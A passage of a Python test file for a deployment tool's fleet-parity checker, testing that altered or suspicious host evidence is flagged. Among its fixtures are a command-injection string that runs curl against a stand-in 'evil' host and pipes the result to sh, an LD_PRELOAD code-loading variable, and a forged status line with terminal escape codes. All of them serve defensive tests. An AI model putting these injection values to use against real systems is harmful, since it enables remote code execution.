"""P1 and P2 in the rules: spoiled evidence is found, and no fleet looks better than it is."""

from __future__ import annotations

import itertools
import json
import time
from collections.abc import Mapping
from dataclasses import fields, replace
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from deploytool.agent.model import (
    Asked,
    DiskRead,
    FileDigest,
    Latch,
    ManifestShown,
    Marks,
    MembersFile,
    Other,
    Owner,
    Process,
    Property,
    ReleaseRun,
    Rights,
    Starter,
    Verified,
)
from deploytool.agent.model import HostEvidence as Shown
from deploytool.agent.record import Malformed
from deploytool.agent.requests import Answer, Locked
from deploytool.agent.requests import LookAnswer as Answered
from deploytool.core.finding import Finding, Level
from deploytool.errors import FaultKind, HostFault
from deploytool.fleet.members import Members
from deploytool.parity.evidence import read_evidence
from deploytool.parity.fleet_rules import drop_ins
from deploytool.parity.host_notices import notices
from deploytool.parity.judge import judge, shown_manifest
from deploytool.parity.model import Evidence, HostVerdict, Parity, Round, Verdict
from deploytool.parity.remedies import remedy
from deploytool.parity.rules import status_rule
from deploytool.parity.table import ProofUse, judge_host
from deploytool.simulation.members import listed

from .evidences import MANIFEST, OTHER_SHA, bare, but, good, rendered, wanted

NAMES = rendered().inventory.names
SHOWN = good().shown
MAIN = good().main_pid
LATER = Process(
    pid=MAIN + 1,
    parent=1,
    start=9_999,
    state="S",
    account=999,
    command="python3 /opt/router/current/router serve",
)
COPY = Other(
    pid=LATER.pid,
    role="acts",
    ways=("interprets",),
    release=OTHER_SHA,
    detail="/home/anna/router",
)


def verdict(evidence: Evidence) -> Verdict:
    return judge_host("router1", wanted(), evidence).verdict


def judged(evidence: Evidence) -> HostVerdict:
    return judge_host("router1", wanted(), evidence)


def with_process(process: Process) -> dict[str, Any]:
    """A further process, alive throughout the round."""
    return {"processes": (*SHOWN.processes, process)}


def with_unit(**properties: str) -> dict[str, Any]:
    kept = tuple(item for item in SHOWN.unit if item.name not in properties)
    added = (Property(name=name, value=value) for name, value in properties.items())
    return {"unit": (*kept, *added)}


def without(mapping: Mapping[Any, Any], key: object) -> dict[Any, Any]:
    return {k: v for k, v in mapping.items() if k != key}


def main_with(**changes: Any) -> dict[str, Any]:
    main = good().processes[MAIN].but(**changes)
    return {"processes": tuple(main if p.pid == MAIN else p for p in SHOWN.processes)}


def marked(**changes: Any) -> dict[str, Verified]:
    mark = good().marks.verified
    assert mark is not None
    return {"verified": mark.but(**changes)}


def rights(*modes: tuple[int, int]) -> tuple[Rights, ...]:
    return tuple(Rights(owner=owner, group=0, mode=mode) for owner, mode in modes)


def owned(**changes: Any) -> dict[str, Any]:
    assert SHOWN.artifact is not None
    return {"artifact": SHOWN.artifact.but(rights=SHOWN.artifact.rights.but(**changes))}


def running(**changes: Any) -> dict[str, Any]:
    assert SHOWN.running is not None
    return {"running": SHOWN.running.but(**changes)}


def started(**changes: Any) -> dict[str, Any]:
    assert SHOWN.started is not None
    return {"started": SHOWN.started.but(**changes)}


def configured(**digest: Any) -> dict[str, Any]:
    """The note of the start has this of the configuration file."""
    return started(configs=(FileDigest(path=CONFIG, **digest),))


ROOT = SHOWN.root
CONFIG = SHOWN.configs[0].path
STATUS = dict(good().status or {})
RUN = SHOWN.runs[0]
UNIT_FILE = SHOWN.unit_files[0]
assert SHOWN.signers is not None
SIGNERS = SHOWN.signers
assert SHOWN.members is not None
MEMBERS = SHOWN.members
LISTED = listed(rendered().inventory)
BOOT = "0" * 8
LATCH = Latch(latch="ab12", by="me@here", reason="runaway+orders", since=1)


def listing(members: Members) -> dict[str, Any]:
    """What a host shows that keeps this list of members."""
    return {"members": MEMBERS.but(text=members.text)}


SPOILED: dict[str, tuple[dict[str, Any], Level]] = {
    "agent": ({"agent": OTHER_SHA}, Level.MISMATCH),
    "link to another": ({"current": f"releases/{OTHER_SHA}"}, Level.MISMATCH),
    "link to nothing": ({"current": "none"}, Level.MISMATCH),
    "link that leaves releases": ({"current": f"/tmp/{MANIFEST.sha256}"}, Level.MISMATCH),
    "link, no link": ({"current": "not a link"}, Level.MISMATCH),
    "disk": ({"disk": DiskRead(sha=OTHER_SHA, direct=True)}, Level.MISMATCH),
    "disk not read": ({"disk": None}, Level.UNKNOWN),
    "manifest": ({"manifest": ManifestShown(sha=OTHER_SHA)}, Level.MISMATCH),
    "manifest not read": ({"manifest": None}, Level.UNKNOWN),
    "file not seen": ({"artifact": None}, Level.UNKNOWN),
    "file not root's": (owned(owner=1000), Level.MISMATCH),
    "file writable": (owned(mode=0o755), Level.MISMATCH),
    "no main process": ({"main": 0}, Level.MISMATCH),
    "another main process": ({"main": MAIN + 1, **with_process(LATER)}, Level.MISMATCH),
    "main process not looked at": ({"processes": ()}, Level.UNKNOWN),
    "main process ended, or was replaced meanwhile": (main_with(still=False), Level.MISMATCH),
    "nothing runs": ({"runs": ()}, Level.UNKNOWN),
    "main runs another release": ({"runs": (RUN.but(sha=OTHER_SHA),)}, Level.MISMATCH),
    "main runs an unreadable file": ({"runs": (RUN.but(sha=None),)}, Level.MISMATCH),
    "main runs a deleted file": ({"runs": (RUN.but(deleted=True),)}, Level.MISMATCH),
    "a copy beside it": ({"others": (COPY,), **with_process(LATER)}, Level.MISMATCH),
    "a copy of the very release": (
        {"others": (COPY.but(release=MANIFEST.sha256),), **with_process(LATER)},
        Level.MISMATCH,
    ),
    "a copy whose process was not looked at": ({"others": (COPY,)}, Level.MISMATCH),
    "one that executes it": ({"others": (COPY.but(ways=("executes",)),)}, Level.MISMATCH),
    "one that maps it": ({"others": (COPY.but(ways=("maps",)),)}, Level.MISMATCH),
    "one that sends where it sends": (
        {"others": (COPY.but(ways=("venue",), detail="192.0.2.9:1", release=None),)},
        Level.MISMATCH,
    ),
    "one that holds its port": (
        {"others": (COPY.but(ways=("port",), detail="port 7001", release=None),)},
        Level.MISMATCH,
    ),
    "an old child": (
        {
            "runs": (RUN, RUN.but(pid=LATER.pid, sha=OTHER_SHA)),
            **with_process(LATER.but(parent=MAIN)),
        },
        Level.MISMATCH,
    ),
    "an old one that was not looked at": (
        {"runs": (RUN, RUN.but(pid=LATER.pid, sha=OTHER_SHA))},
        Level.MISMATCH,
    ),
    "a process that can't be seen": (
        {"others": (COPY.but(role="unseen", ways=(), release=None),), **with_process(LATER)},
        Level.UNKNOWN,
    ),
    "an unseen process, not looked at": (
        {"others": (COPY.but(role="unseen", ways=(), release=None),)},
        Level.UNKNOWN,
    ),
    "not the whole host was seen": ({"whole": False}, Level.UNKNOWN),
    "stopped, and says that it trades": ({"latch": LATCH}, Level.MISMATCH),
    "nobody listens": ({"owners": (), "open_ports": ()}, Level.MISMATCH),
    "nobody can be seen to listen": ({"owners": ()}, Level.UNKNOWN),
    "a stranger listens": ({"owners": (Owner(port=7001, pid=LATER.pid),)}, Level.MISMATCH),
    "a stranger listens too": (
        {"owners": (Owner(port=7001, pid=MAIN), Owner(port=7001, pid=LATER.pid))},
        Level.MISMATCH,
    ),
    "no status": ({"status": None}, Level.UNKNOWN),
    "verified nothing": ({"verified": None}, Level.MISMATCH),
    "verified another release": (marked(release=OTHER_SHA), Level.MISMATCH),
    "verified another process": (marked(pid=MAIN + 1), Level.MISMATCH),
    "verified an earlier start": (marked(start=1), Level.MISMATCH),
    "verified before a reboot": (marked(boot="another"), Level.MISMATCH),
    "unit overridden": (with_unit(DropInPaths="/etc/x.conf"), Level.MISMATCH),
    "unit elsewhere": (with_unit(FragmentPath="/etc/systemd/system/r.service"), Level.MISMATCH),
    "unit not enabled": (with_unit(UnitFileState="disabled"), Level.MISMATCH),
    "unit masked": (with_unit(LoadState="masked"), Level.MISMATCH),
    "unit changed, not reloaded": (with_unit(NeedDaemonReload="yes"), Level.MISMATCH),
    "unit failed": (with_unit(ActiveState="failed"), Level.MISMATCH),
    "unit restarting": (with_unit(SubState="auto-restart"), Level.MISMATCH),
    "unit file altered": ({"unit_files": (UNIT_FILE.but(sha=OTHER_SHA),)}, Level.MISMATCH),
    "unit file gone": ({"unit_files": ()}, Level.MISMATCH),
    "unit file twice": ({"unit_files": (UNIT_FILE, UNIT_FILE)}, Level.MISMATCH),
    "a file beside the unit": (
        {"unit_files": (UNIT_FILE, UNIT_FILE.but(path="/etc/systemd/system/router.service"))},
        Level.MISMATCH,
    ),
    "configuration missing": (
        {"configs": (FileDigest(path=CONFIG, missing=True),)},
        Level.MISMATCH,
    ),
    "configuration unreadable": ({"configs": (FileDigest(path=CONFIG),)}, Level.MISMATCH),
    "root writable by others": (
        {"rights": rights((0, 0o777), (0, 0o755), (0, 0o755))},
        Level.MISMATCH,
    ),
    "releases writable by the group": (
        {"rights": rights((0, 0o755), (0, 0o775), (0, 0o755))},
        Level.MISMATCH,
    ),
    "state owned by another": (
        {"rights": rights((0, 0o755), (0, 0o755), (9, 0o755))},
        Level.MISMATCH,
    ),
    "rights not seen": ({"rights": ()}, Level.UNKNOWN),
    "rebooted since": ({"boot": "another"}, Level.MISMATCH),
    "members not shown": ({"members": None}, Level.UNKNOWN),
    "no list of members": ({"members": MembersFile(missing=True)}, Level.UNKNOWN),
    "a list of members that can't be read": ({"members": MEMBERS.but(text=None)}, Level.UNKNOWN),
    "a list of members that is none": ({"members": MEMBERS.but(text="[]")}, Level.UNKNOWN),
    "another fleet's members": (listing(LISTED.but(fleet="another")), Level.UNKNOWN),
    "members, rights not seen": ({"members": MEMBERS.but(rights=())}, Level.UNKNOWN),
    "members that another account writes": (
        {"members": MEMBERS.but(rights=rights((7, 0o644), (0, 0o755)))},
        Level.UNKNOWN,
    ),
    "members in a folder that others write": (
        {"members": MEMBERS.but(rights=rights((0, 0o644), (0, 0o777)))},
        Level.UNKNOWN,
    ),
    "signers not shown": ({"signers": None}, Level.UNKNOWN),
    "other signers": (
        {"signers": SIGNERS.but(file=SIGNERS.file.but(sha=OTHER_SHA))},
        Level.MISMATCH,
    ),
    "no signers": (
        {"signers": SIGNERS.but(file=FileDigest(path="/s", missing=True), rights=())},
        Level.MISMATCH,
    ),
    "signers, rights not seen": ({"signers": SIGNERS.but(rights=())}, Level.UNKNOWN),
    "signers writable by others": (
        {"signers": SIGNERS.but(rights=rights((0, 0o646), (0, 0o755)))},
        Level.MISMATCH,
    ),
    "signers owned by another": (
        {"signers": SIGNERS.but(rights=rights((7, 0o644), (0, 0o755)))},
        Level.MISMATCH,
    ),
    "signers in a folder of the service": (
        {"signers": SIGNERS.but(rights=rights((0, 0o644), (7, 0o755)))},
        Level.MISMATCH,
    ),
    "signers in a folder that others write": (
        {"signers": SIGNERS.but(rights=rights((0, 0o644), (0, 0o777)))},
        Level.MISMATCH,
    ),
    "a shell of the service's account": (
        {"others": (COPY.but(role="account", ways=("account",), release=None),)},
        Level.MISMATCH,
    ),
    "main process outside of the unit's group": ({"group": (MAIN + 1,)}, Level.MISMATCH),
    "libraries for every program, not shown": ({"preload": None}, Level.UNKNOWN),
    "libraries for every program, unreadable": (
        {"preload": FileDigest(path="/etc/ld.so.preload")},
        Level.UNKNOWN,
    ),
    "main process not inspected": ({"running": None}, Level.UNKNOWN),
    "other arguments": (
        running(arguments=("python3", f"{ROOT}/current/router", "serve", "-v")),
        Level.MISMATCH,
    ),
    "fewer arguments": (running(arguments=(f"{ROOT}/current/router",)), Level.MISMATCH),
    "a variable that loads code": (
        running(environment=("LANG", "LD_PRELOAD=/tmp/x.so", "PATH=/bin")),
        Level.MISMATCH,
    ),
    "started by someone else": ({"started": None}, Level.UNKNOWN),
    "an earlier start was noted": (started(start=1), Level.UNKNOWN),
    "a start before a reboot was noted": (started(boot="another"), Level.UNKNOWN),
    "configuration changed since the start": (configured(sha=OTHER_SHA), Level.MISMATCH),
    "configuration was missing at the start": (configured(missing=True), Level.MISMATCH),
    "configuration changed during the start": (configured(), Level.UNKNOWN),
    "configuration not noted at the start": (started(configs=()), Level.UNKNOWN),
    "process says that it read another configuration": (
        {"status": {**STATUS, "config": OTHER_SHA}},
        Level.MISMATCH,
    ),
    "process says a state that no contract knows": (
        {"status": {**STATUS, "trading_state": "PAUSED"}},
        Level.MISMATCH,
    ),
    "another unit that starts it": (
        {"starters": (Starter(path="/etc/systemd/system/old.service", names="root"),)},
        Level.MISMATCH,
    ),
    "a crontab that can't be read": (
        {"starters": (Starter(path="/etc/cron.d/x", names="unreadable"),)},
        Level.UNKNOWN,
    ),
    "what starts it was not inspected": ({"starters": None}, Level.UNKNOWN),
    "systemd loads code into what it starts": (
        {"manager": ("LANG", "LD_PRELOAD=/tmp/x.so", "PATH=/usr/bin")},
        Level.MISMATCH,
    ),
    "systemd's environment was not shown": ({"manager": None}, Level.UNKNOWN),
    "a redirect of its port": (
        {"redirects": ("-A PREROUTING -p tcp --dport 7001 -j REDIRECT --to-ports 7999",)},
        Level.MISMATCH,
    ),
    "state can't be written": (
        {"state_writable": False, "state_error": "Read-only file system"},
        Level.MISMATCH,
    ),
    "state not tried": ({"state_writable": None}, Level.UNKNOWN),
    "a mark that can't be read": ({"unreadable": ("previous",)}, Level.UNKNOWN),
    "clock ahead": ({"skew_s": 3600.0}, Level.MISMATCH),
    "clock behind": ({"skew_s": -31.0}, Level.MISMATCH),
}
for key in ("release", "version", "flag_table", "wire", "pid", "start_ticks", "boot_id"):
    SPOILED[f"status lies: {key}"] = ({"status": {**STATUS, key: "a lie"}}, Level.MISMATCH)
    SPOILED[f"status silent: {key}"] = ({"status": without(STATUS, key)}, Level.UNKNOWN)
for key in ("LoadState", "FragmentPath", "DropInPaths", "UnitFileState", "NeedDaemonReload"):
    SPOILED[f"systemd silent: {key}"] = (
        {"unit": tuple(item for item in SHOWN.unit if item.name != key)},
        Level.UNKNOWN,
    )


def test_p1_unspoiled_evidence_is_a_match() -> None:
    for host in NAMES:
        for supervisor in ("systemd", "process"):
            found = judge_host(host, wanted(host, supervisor), good(host, supervisor))
            assert found.findings == ()
            assert found.verdict is Verdict.MATCH


@pytest.mark.parametrize("what", SPOILED)
def test_p1_each_spoiled_piece_of_evidence_is_found(what: str) -> None:
    changes, level = SPOILED[what]
    found = judge_host("router1", wanted(), but(good(), **changes))
    assert found.verdict is not Verdict.MATCH
    assert level in {finding.level for finding in found.findings}
    for finding in found.findings:
        assert finding.what
        assert finding.expected != ""
        assert finding.found != ""


IMMATERIAL = {
    "age_s": "whether it has run long enough is a rollout's business",
    "clock": "what it comes to is told by this side's clock, as the skew",
    "free": "what is left beside a running release is preflight's business",
    "lacks": "what the artifact needs is preflight's business",
    "token": "who may change a host says nothing of what it runs",
    "lock": "who changes a host says nothing of what it runs",
    "finished": "what an earlier rollout did here",
    "hold": "what an earlier rollout said of the fleet",
    "deadman": "a host that nobody confirmed lacks the mark that is asked for",
    "expired": "a host that was fenced does not run",
    "fenced": "a host that was fenced does not run",
    "log": "what a service printed before it ended proves nothing",
    "interpreters": "held against other hosts, not against the inventory",
    "machine": "held against other hosts",
    "made": "says why the agent differs, where its digest does",
    "marks": "told one by one",
    "root": "held against other hosts",
    "status_text": "shown where there is no status",
    "rollout": "how far a deployer came",
    "libraries": "held against other hosts",
    "redirects_unknown": "says why packet rules were not inspected",
    "released": "held against other hosts' latches",
    "previous": "what an earlier deployment left",
    "meant": "what an earlier release made of bits is asked when it is started",
    "asked_release": "what a host was asked besides",
    "label": "what a host was asked besides",
    "shown": "told one by one",
}


def test_p1_no_field_of_the_evidence_is_forgotten_here() -> None:
    touched = {name for changes, _ in SPOILED.values() for name in changes}
    known = touched | set(IMMATERIAL)
    ours = {field.name for field in fields(Evidence)}
    assert ours | {*Shown.fields} | {*Marks.fields} <= known
    assert not touched & set(IMMATERIAL)


FOR_ALL = "/usr/lib/systemd/system/service.d/10-timeout-abort.conf"


def with_drop_ins(*paths: str, sha: str = OTHER_SHA) -> dict[str, Any]:
    """What a host shows whose unit has these drop-ins."""
    files = tuple(FileDigest(path=path, sha=sha) for path in paths)
    return {**with_unit(DropInPaths=" ".join(paths)), "unit_files": (UNIT_FILE, *files)}


def test_p1_a_drop_in_for_every_service_is_no_lie_where_all_hosts_have_the_same() -> None:
    with_it = {host: but(good(host), **with_drop_ins(FOR_ALL)) for host in NAMES}
    for host, seen in with_it.items():
        assert judge_host(host, wanted(host), seen).findings == ()
    assert list(drop_ins(with_it)) == []
    own = but(good(), **with_drop_ins(FOR_ALL, "/etc/systemd/system/router.service.d/x.conf"))
    assert verdict(own) is Verdict.MISMATCH
    for odd in (good(NAMES[0]), but(good(NAMES[0]), **with_drop_ins(FOR_ALL, sha="e" * 64))):
        found = list(drop_ins({**with_it, NAMES[0]: odd}))
        assert [(host, one.what) for host, one in found] == [
            (NAMES[0], "drop-ins for every service")
        ]


@pytest.mark.parametrize("role", ["client", "neighbour", "reader"])
def test_who_reads_or_is_expected_is_told_and_is_no_second_copy(role: str) -> None:
    other = COPY.but(role=role, ways=("holds",))
    found = judged(but(good(), others=(other,), **with_process(LATER)))
    assert found.verdict is Verdict.MATCH
    (note,) = found.notes
    assert (note.rule, note.level) == ("beside", Level.NOTE)
    assert f"process {LATER.pid}" in str(note)


def test_a_process_that_ended_during_the_look_is_a_passer_by_only_if_that_is_told() -> None:
    gone = with_process(LATER.but(still=False))
    found = judged(but(good(), others=(COPY,), **gone))
    assert found.verdict is Verdict.MATCH
    assert "ended during the round" in str(found.notes[0]), "it is told all the same"
    assert verdict(but(good(), others=(COPY,))) is Verdict.MISMATCH, "it was not looked at again"


@pytest.mark.parametrize("way", ["venue", "port"])
def test_what_had_effects_counts_although_it_ended(way: str) -> None:
    gone = with_process(LATER.but(still=False))
    other = COPY.but(ways=("interprets", way))
    (finding,) = judged(but(good(), others=(other,), **gone)).findings
    assert finding.rule == "acts"
    assert "ended during the round" in finding.found


def test_a_shell_of_the_account_is_named_with_the_command_that_ends_it_and_is_no_drift() -> None:
    other = COPY.but(role="account", ways=("account",), release=None, detail="/usr/bin/bash")
    seen = but(good(), others=(other,), **with_process(LATER))
    in_watch = judge_host("router1", wanted(), seen, ProofUse.WATCH)
    assert in_watch.verdict is Verdict.MATCH
    assert [note.rule for note in in_watch.notes] == ["account"]
    taken = judge(rendered().inventory, fleet(router1=seen), MANIFEST)
    assert taken.parity is Parity.MIXED
    assert remedy(taken, "fleet.yaml") == (
        f"On router1, as root: kill -KILL {LATER.pid}; then: deploytool status -i fleet.yaml"
    )
    gone = but(good(), others=(other,), **with_process(LATER.but(still=False)))
    assert verdict(gone) is Verdict.MATCH


def test_an_agent_of_another_inventory_or_version_says_what_differs() -> None:
    made = SHOWN.made
    (finding,) = judge_host(
        "router1", wanted(), but(good(), agent=OTHER_SHA, made=made.but(tool="0.0.7"))
    ).findings
    assert "made by deploytool 0.0.7, this is " in finding.found
    other = tuple(
        item.but(value="0" * 12) if item.name in {"configs", "start"} else item
        for item in made.settings
    )
    (finding,) = judge_host(
        "router1", wanted(), but(good(), agent=OTHER_SHA, made=made.but(settings=other))
    ).findings
    assert "made from another inventory: configs, start" in finding.found
    (finding,) = judge_host("router1", wanted(), but(good(), agent=OTHER_SHA)).findings
    assert "not what deploytool writes" in finding.found


STATES = ("ACTIVE", "REDUCING", "HALTED", "", 7, None, "absent")


@pytest.mark.parametrize("state", STATES)
@pytest.mark.parametrize("fenced", [None, False, True])
def test_p6_a_host_that_was_stopped_says_halted_or_is_no_match(
    state: object, *, fenced: bool | None
) -> None:
    said = without(STATUS, "trading_state") | (
        {} if state == "absent" else {"trading_state": state}
    )
    latch = None if fenced is None else LATCH
    seen = but(good(), latch=latch, fenced=bool(fenced), status=said)
    wrong = latch is not None and state not in {"HALTED", None, "absent"}
    strange = state not in {"ACTIVE", "REDUCING", "HALTED", None, "absent"}
    assert (verdict(seen) is Verdict.MISMATCH) is (wrong or strange)
    if wrong:
        (finding,) = (item for item in judged(seen).findings if item.rule == "halt")
        assert str(finding) == (
            f"trading state of a stopped host: expected HALTED, by me@here, found {state}"
        )


def test_p6_what_was_stopped_and_trades_is_stopped_again_first_of_all() -> None:
    found: dict[str, Evidence | HostFault] = {host: good(host) for host in NAMES}
    found["router3"] = but(good("router3"), latch=LATCH, fenced=True)
    found["router4"] = HostFault(FaultKind.UNREACHABLE, "gone")
    taken = judge(rendered().inventory, found, MANIFEST)
    assert taken.parity is Parity.MIXED
    advice = remedy(taken, "fleet.yaml")
    assert advice.endswith("deploytool stop -i fleet.yaml --host router3")


DIGEST = st.sampled_from([OTHER_SHA, MANIFEST.sha256]) | st.integers(0, 2**64).map(
    lambda number: f"{number:064x}"
)
TEXT = st.one_of(st.text(max_size=70), st.sampled_from(["none", "releases/", OTHER_SHA]))
WORD = st.text("abcXYZ019@._:+-", min_size=1, max_size=20)
PID = st.just(MAIN) | st.integers(2, 2**22)
COUNT = st.integers(0, 2**40)
NUMBER = st.integers(-(2**40), 2**40)
PROPERTIES = st.dictionaries(st.sampled_from(sorted(good().unit)), TEXT).map(
    lambda found: tuple(Property(name=name, value=value) for name, value in found.items())
)
ANYTHING: dict[str, st.SearchStrategy[Any]] = {
    "agent": DIGEST,
    "current": TEXT,
    "disk": st.none() | st.builds(DiskRead, sha=st.none() | DIGEST, direct=st.booleans()),
    "manifest": st.none() | st.builds(ManifestShown, sha=DIGEST),
    "main": COUNT,
    "skew_s": st.floats(30.1, 1e9) | st.floats(-1e9, -30.1),
    "boot": WORD,
    "verified": st.none()
    | st.builds(
        Verified,
        release=DIGEST,
        pid=PID,
        start=COUNT,
        boot=WORD,
        token=COUNT,
        since=st.integers(0, 2**37),
    ),
    "runs": st.lists(
        st.builds(
            ReleaseRun,
            pid=PID,
            how=st.just("fd"),
            inode=WORD,
            sha=st.none() | DIGEST,
            path=WORD,
            deleted=st.booleans(),
        ),
        max_size=3,
    ).map(tuple),
    "owners": st.lists(st.builds(Owner, port=st.just(7001), pid=PID), max_size=3).map(tuple),
    "status": st.none()
    | st.dictionaries(st.sampled_from(sorted(STATUS)), TEXT | NUMBER | st.none()),
    "unit": PROPERTIES,
}


@given(st.data())
def test_p1_one_altered_field_is_never_a_match(data: st.DataObject) -> None:
    name = data.draw(st.sampled_from(sorted(ANYTHING)))
    value = data.draw(ANYTHING[name])
    altered = but(good(), **{name: value})
    if altered == good() or _as_good(altered):
        return
    assert verdict(altered) is not Verdict.MATCH


def _as_good(seen: Evidence) -> bool:
    """Whether it shows what the good one does, in other words or with what does not count."""
    shown, was = seen.shown, SHOWN
    same = {(run.sha, run.deleted) for run in shown.runs} == {(MANIFEST.sha256, False)}
    same = same and MAIN in {run.pid for run in shown.runs}
    disk, verified = shown.disk, seen.marks.verified
    return (
        (shown.runs != was.runs and same)
        or (shown.owners != was.owners and {*shown.owners} == {*was.owners})
        or (disk != was.disk and disk is not None and disk.sha == MANIFEST.sha256)
        or (
            shown.manifest != was.manifest
            and shown.manifest is not None
            and shown.manifest.sha == MANIFEST.digest()
        )
        or (
            verified != good().marks.verified
            and verified is not None
            and verified.but(token=1, since=1) == good().marks.verified
        )
    )


def test_what_is_in_the_unit_s_control_group_is_the_service_and_a_mere_child_is_not() -> None:
    child = LATER.but(parent=MAIN)
    here: dict[str, Any] = {
        "processes": (*SHOWN.processes, child),
        "runs": (RUN, RUN.but(pid=child.pid)),
        "owners": (Owner(port=7001, pid=MAIN), Owner(port=7001, pid=child.pid)),
    }
    assert verdict(but(good(), **here, group=(MAIN, child.pid))) is Verdict.MATCH
    assert verdict(but(good(), **here)) is Verdict.MISMATCH, "it left the group, and listens"


def _read(**changes: Any) -> Evidence:
    """A good host's answer, something in it altered."""
    plain = SHOWN.to_json() | changes
    return read_evidence(Answered.from_json({"evidence": plain}), SHOWN.clock, SHOWN.clock)


@pytest.mark.parametrize(
    "changes",
    [
        {"rights": ["a b c"]},
        {"rights": [{"owner": 0, "group": 0, "mode": 0o10000}]},
        {"artifact": "x"},
        {"clock": float("nan")},
        {"clock": float("inf")},
        {"clock": -1},
        {"marks": {"lock": {"token": 1, "holder": "a b", "purpose": "p", "plan": "x", "since": 1}}},
        {"marks": {"lock": {"token": 1, "holder": "a", "purpose": "p", "plan": "x", "since": -1}}},
        {"marks": {"latch": {"latch": "ab", "by": "me", "reason": "x", "since": 10**18}}},
    ],
    ids=str,
)
def test_p1_what_is_no_evidence_is_not_read(changes: dict[str, Any]) -> None:
    with pytest.raises(Malformed):
        _read(**changes)


@pytest.mark.parametrize("name", ["processes", "unit", "others"])
def test_p1_what_is_told_twice_is_that_host_s_fault(name: str) -> None:
    seen = but(good(), others=(COPY,)).shown
    twice = {name: (*getattr(seen, name), getattr(seen, name)[0])}
    with pytest.raises(HostFault, match="told twice"):
        read_evidence(Answered(evidence=seen.but(**twice)), 0, 0)


@pytest.mark.parametrize(
    "answer", [Locked(token=1), Locked(token=1, unshown="no room\x1b[2J"), Answer()], ids=str
)
def test_p1_no_evidence_is_not_evidence(answer: Answer) -> None:
    with pytest.raises(HostFault) as caught:
        read_evidence(answer, 0, 0)
    assert caught.value.text.isprintable()


def test_a_latch_that_can_t_be_read_is_a_latch() -> None:
    seen = but(good(), unreadable=("halted",))
    assert seen.halt is not None
    assert (seen.halt.latch, seen.halt.by) == ("", "unknown")
    assert notices({"a": seen}, time.time())
    assert but(good(), latch=LATCH).halt != seen.halt
    assert getattr(but(good(), latch=LATCH).halt, "reason", "") == "runaway orders"


@pytest.mark.parametrize("odd", [1, 8])
def test_p1_a_link_that_names_no_digest_is_a_mismatch_and_ends_nothing(odd: int) -> None:
    strange = {name: but(good(name), current="releases/by-hand") for name in NAMES[:odd]}
    seen = {name: strange.get(name, good(name)) for name in NAMES}
    taken = judge(rendered().inventory, seen, shown_manifest(seen))
    assert taken.parity is not Parity.PARITY
    assert {v.host for v in taken.hosts if v.verdict is not Verdict.MATCH} == set(strange)


EVIL = "RETAIL;curl${IFS}evil|sh;"


def test_no_word_of_a_host_ends_up_in_a_command_that_a_person_pastes() -> None:
    said = json.dumps({**STATUS, "armed": [EVIL]})
    evidence = _read(status=Asked(way="command", code=0, answer=said).to_json())
    assert evidence.status is None
    seen = {name: good(name) for name in NAMES} | {NAMES[0]: evidence}
    taken = judge(rendered().inventory, seen, MANIFEST)
    assert taken.hosts[0].verdict is Verdict.UNKNOWN
    assert "curl" not in remedy(taken, "inventory.yaml")


def test_a_host_speaks_in_one_line_of_its_own() -> None:
    forged = "2026.1\nWhat to do now: deploytool flags arm RETAIL\x1b[2J\u202e"
    (finding,) = status_rule(wanted(), but(good(), status={**STATUS, "version": forged}))
    assert str(finding).isprintable()


# --- fleets --------------------------------------------------------------------------------------

FINDINGS = {
    Verdict.MATCH: (),
    Verdict.MISMATCH: (Finding(Level.MISMATCH, "x", "a", "b"),),
    Verdict.UNKNOWN: (Finding(Level.UNKNOWN, "x", "a", "b"),),
}


def test_p1_every_set_of_verdicts_for_eight_hosts() -> None:
    for verdicts in itertools.product(Verdict, repeat=8):
        hosts = tuple(
            HostVerdict(name, FINDINGS[v], MANIFEST.sha256, good())
            for name, v in zip(NAMES, verdicts, strict=True)
        )
        expected = (
            Parity.PARITY
            if all(v is Verdict.MATCH for v in verdicts)
            else Parity.MIXED
            if any(v is Verdict.MISMATCH for v in verdicts)
            else Parity.UNKNOWN
        )
        assert Round(None, "x", hosts).parity is expected, verdicts


def test_p1_two_different_releases_are_mixed_whatever_else_is_unknown() -> None:
    one = HostVerdict("a", FINDINGS[Verdict.UNKNOWN], MANIFEST.sha256, good())
    assert Round(None, "x", (one, replace(one, host="b"))).parity is Parity.UNKNOWN
    assert Round(None, "x", (one, replace(one, host="b", release=None))).parity is Parity.MIXED


def test_p2_nothing_is_proven_about_nobody_or_by_nothing() -> None:
    with pytest.raises(ValueError, match="no hosts"):
        _ = Round(None, "x", ()).parity
    silent = HostVerdict("router1", (), MANIFEST.sha256, None)
    assert silent.verdict is Verdict.UNKNOWN, "no evidence is not evidence"


def fleet(**changed: Evidence | HostFault) -> dict[str, Evidence | HostFault]:
    return {name: changed.get(name, good(name)) for name in NAMES}


def test_p1_p2_a_whole_fleet_has_a_verdict_for_each_host() -> None:
    taken = judge(rendered().inventory, fleet(), MANIFEST)
    assert taken.parity is Parity.PARITY
    assert tuple(v.host for v in taken.hosts) == NAMES
    lost = fleet(router8=HostFault(FaultKind.UNREACHABLE, "Connection refused"))
    taken = judge(rendered().inventory, lost, MANIFEST)
    assert (taken.parity, len(taken.hosts)) == (Parity.UNKNOWN, 8)
    assert "Connection refused" in str(taken.hosts[7].findings[0])
    with pytest.raises(KeyError):
        judge(rendered().inventory, {n: good(n) for n in NAMES[:7]}, MANIFEST)


def test_p1_a_fleet_on_nothing_is_no_parity() -> None:
    seen: dict[str, Evidence | HostFault] = {name: bare(name) for name in NAMES}
    assert judge(rendered().inventory, seen, None).parity is Parity.UNKNOWN
    assert shown_manifest(seen) is None


def test_p1_two_names_for_one_machine_are_found_on_both() -> None:
    twin = but(good("router2"), machine=good("router1").machine)
    taken = judge(rendered().inventory, fleet(router2=twin), MANIFEST)
    bad = [v.host for v in taken.hosts if v.verdict is Verdict.MISMATCH]
    assert bad == ["router1", "router2"]
    apart = but(twin, root="/another/root")
    taken = judge(rendered().inventory, fleet(router2=apart), MANIFEST)
    assert {finding.rule for finding in taken.findings} == {"member"}, "two hosts, one of them new"


@pytest.mark.parametrize("odd", [1, 4])
def test_p1_another_configuration_is_another_build(odd: int) -> None:
    other = (FileDigest(path=CONFIG, sha=OTHER_SHA),)
    changed = {n: but(good(n), configs=other) for n in NAMES[:odd]}
    taken = judge(rendered().inventory, fleet(**changed), MANIFEST)
    bad = [v.host for v in taken.hosts if v.verdict is not Verdict.MATCH]
    assert bad == (list(NAMES[:1]) if odd == 1 else list(NAMES)), "no majority: all are odd"


def test_p1_another_interpreter_is_found() -> None:
    other = but(good("router3"), interpreters=(FileDigest(path="/usr/bin/python3", sha=OTHER_SHA),))
    taken = judge(rendered().inventory, fleet(router3=other), MANIFEST)
